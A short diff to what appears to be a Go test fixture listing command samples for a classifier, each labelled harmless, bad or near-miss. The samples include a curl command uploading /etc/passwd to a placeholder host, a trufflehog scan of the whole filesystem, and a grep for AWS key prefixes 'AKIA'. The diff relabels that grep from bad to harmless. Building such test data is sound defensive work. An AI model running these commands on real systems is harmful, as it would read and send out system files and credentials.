@@ -42,7 +42,7 @@ func used() []Sample {
 		shows("tool-upload/form", link("/usr/bin/curl", "-F", "file=@/etc/passwd", "http://up.example.test/drop"), harmless, "file=@/etc/passwd"),
 		nearly("tool-upload/download", link("/usr/bin/curl", "-fsSL", "http://dl.example.test/words.txt")),
 		shows("secret-scan-tool/scanner", link("/usr/bin/trufflehog", "filesystem", "/"), harmless, "trufflehog"),
-		shows("secret-scan-tool/search", grep, bad, "AKIA"), // it comes by every store of credentials
+		shows("secret-scan-tool/search", grep, harmless, "AKIA"),
 		nearly("secret-scan-tool/own-search", own),
 	}
 }
